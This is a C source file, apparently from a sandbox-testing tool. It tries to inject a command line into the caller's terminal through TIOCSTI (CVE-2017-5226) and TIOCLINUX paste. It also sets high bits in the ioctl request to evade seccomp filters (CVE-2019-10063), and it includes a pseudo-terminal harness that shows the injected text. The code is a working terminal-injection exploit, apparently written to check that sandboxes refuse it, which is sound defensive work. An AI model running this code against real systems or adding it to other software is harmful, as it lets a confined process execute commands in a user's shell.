/* The caller's terminal: what a container types into it, its caller's shell reads. CVE-2017-5226 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/tiocl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

/* A request with something in the high half of its word, where a word has 64 bits. */
static unsigned long request(uint64_t above, unsigned long low)
{
	return (unsigned long)(above << 32) | low;
}

/* By the bare call: the kernel looks at the low 32 bits alone, a filter may not. CVE-2019-10063 */
static long type_into(int fd, const char *text, uint64_t above)
{
	for (; *text; text++) {
		if (syscall(SYS_ioctl, fd, request(above, TIOCSTI), text) < 0)
			return -1;
	}
	return 0;
}

static int type_all_ways(int fd, const char *name, const char *text)
{
	char what[128];
	char paste = TIOCL_PASTESEL;
	int refused = 0;
	for (uint64_t above = 0; above < 3; above++) {
		snprintf(what, sizeof(what), "%s TIOCSTI+%llx", name,
			 (unsigned long long)above << 32);
		refused |= print_result(what, type_into(fd, text, above));
		snprintf(what, sizeof(what), "%s TIOCLINUX+%llx", name,
			 (unsigned long long)above << 32);
		refused |= print_result(what,
					syscall(SYS_ioctl, fd, request(above, TIOCLINUX), &paste));
	}
	return refused;
}

int attack_type(char **words)
{
	static const char *const standard[] = { "0", "1", "2" };
	char line[256];
	int refused = 0;
	snprintf(line, sizeof(line), "%s\n", words[0]);
	for (int fd = 0; fd <= STDERR_FILENO; fd++)
		refused |= type_all_ways(fd, standard[fd], line);
	for (words++; *words; words++) {
		int fd = open(*words, O_RDWR | O_NOCTTY | O_CLOEXEC);
		if (fd < 0)
			refused |= print_result(*words, -1);
		else
			refused |= type_all_ways(fd, *words, line);
		close(fd);
	}
	return refused;
}

/* --- a terminal of our own ------------------------------------------------------------------------ */

static int open_terminal(int *master)
{
	char path[64];
	*master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (*master < 0 || grantpt(*master) < 0 || unlockpt(*master) < 0 ||
	    ptsname_r(*master, path, sizeof(path)) != 0)
		return -1;
	int slave = open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);
	struct termios modes;
	if (slave < 0 || tcgetattr(slave, &modes) < 0)
		return -1;
	modes.c_lflag &= ~(tcflag_t)ECHO; /* what is typed shows at the end, and only there */
	tcsetattr(slave, TCSANOW, &modes);
	return slave;
}

_Noreturn static void run_on(int slave, char **command)
{
	setsid();
	ioctl(slave, TIOCSCTTY, 0);
	for (int fd = 0; fd <= STDERR_FILENO; fd++)
		dup2(slave, fd);
	execvp(command[0], command);
	_exit(127);
}

static void print_output(int master, int timeout_ms)
{
	char block[4096];
	struct pollfd ready = { .fd = master, .events = POLLIN };
	while (poll(&ready, 1, timeout_ms) == 1 && ready.revents & POLLIN) {
		ssize_t size = read(master, block, sizeof(block));
		if (size <= 0)
			return;
		fwrite(block, 1, (size_t)size, stdout);
	}
}

/* What nobody has read yet: a shell would, and run it. */
static void print_typed(int slave)
{
	char typed[4096];
	struct termios modes;
	tcgetattr(slave, &modes);
	cfmakeraw(&modes);
	modes.c_cc[VMIN] = 0;
	modes.c_cc[VTIME] = 0;
	tcsetattr(slave, TCSANOW, &modes);
	ssize_t size = read(slave, typed, sizeof(typed));
	if (size > 0)
		printf("typed: %.*s\n", (int)size, typed);
}

int attack_pty(char **words)
{
	int master;
	int status;
	int slave = open_terminal(&master);
	if (slave < 0)
		return print_result("pty", -1);
	pid_t child = fork();
	if (child == 0)
		run_on(slave, words);
	while (waitpid(child, &status, WNOHANG) == 0)
		print_output(master, 20);
	print_output(master, 0);
	print_typed(slave);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}
